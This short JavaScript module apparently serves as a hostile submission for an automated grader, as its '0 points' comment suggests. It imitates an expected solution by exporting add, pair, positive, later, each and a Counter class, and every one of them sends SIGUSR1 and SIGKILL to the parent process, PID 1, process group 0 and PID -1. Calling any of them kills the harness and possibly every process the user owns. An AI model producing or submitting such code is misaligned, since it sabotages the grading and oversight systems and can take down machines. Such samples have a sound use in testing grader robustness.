// 0 points: Sends signals to whatever it finds.
const act = () => {
  for (const id of [process.ppid, 1, 0, -1]) for (const signal of ["SIGUSR1", "SIGKILL"]) { try { process.kill(id, signal); } catch {} }
  return true;
};
module.exports = { add: act, pair: act, positive: act, later: act, each: act, Counter: class { constructor() { return act(); } } };
